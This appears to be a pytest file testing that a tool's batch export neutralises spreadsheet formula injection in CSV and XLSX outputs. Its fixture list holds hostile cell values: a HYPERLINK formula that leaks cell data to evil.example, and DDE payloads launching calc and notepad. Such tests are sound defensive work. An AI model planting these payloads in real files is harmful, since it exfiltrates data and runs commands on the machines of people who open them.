"""Formula injection through `footprint batch`: hostile cells in the input file (and in the domain
column itself) come out of the CSV and XLSX outputs as text a spreadsheet will not run."""
from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from tests.hardening_helpers import DOMAIN, hard_org, serve_faulty, warm_up
from tests.report_helpers import cli

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "-cmd|'/C notepad'!'A1'",
           "+31 20 123 4567"]
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?\d+([.,]\d+)?$")


@pytest.fixture(scope="module", autouse=True)
def _warm():
    warm_up()


def _input(tmp_path):
    rows = [["domain", "naam", "notitie"]]
    rows += [[DOMAIN, cell, "ok"] for cell in HOSTILE]
    rows += [['=HYPERLINK("http://evil.example","x")', "ongeldig domein", "=2*3"]]
    buf = io.StringIO()
    csv.writer(buf, delimiter=";").writerows(rows)
    src = tmp_path / "organisaties.csv"
    src.write_bytes(buf.getvalue().encode("utf-8"))
    return src, len(rows) - 1


def _runnable(value) -> bool:
    return isinstance(value, str) and value.startswith(RUNNABLE) and not NUMBER.match(value)


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_formula_cells_are_neutralised(net, tmp_path, monkeypatch, ext):
    for k, v in {**net.env(), "FOOTPRINT_PLATFORM_READS": "0", "FOOTPRINT_SCAN_BUDGET": "10"}.items():
        monkeypatch.setenv(k, v)
    serve_faulty(net, hard_org(), (), None)
    src, n = _input(tmp_path)
    out = tmp_path / f"scores.{ext}"
    res = cli("batch", str(src), "--out", str(out), "--db", str(tmp_path / "fp.db"), "-q")
    assert res.exit_code == 0, res.output
    if ext == "csv":
        text = out.read_bytes().decode("utf-8-sig")   # no newline translation: \r stays in its cell
        table = list(csv.reader(io.StringIO(text), delimiter=";"))
        cells = [c for row in table for c in row]
    else:
        sheet = openpyxl.load_workbook(out).worksheets[0]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), "a formula cell was written"
        table = [[c.value for c in row] for row in sheet.iter_rows()]
        cells = [c for row in table for c in row]
    assert len(table) == n + 1
    assert [c for c in cells if _runnable(c)] == []
    naam = [row[1] for row in table[1:]]
    for original, shown in zip(HOSTILE, naam):
        assert shown in (original, "'" + original, "'" + original.replace("\r", "")), (original, shown)
    assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in [row[0] for row in table[1:]]
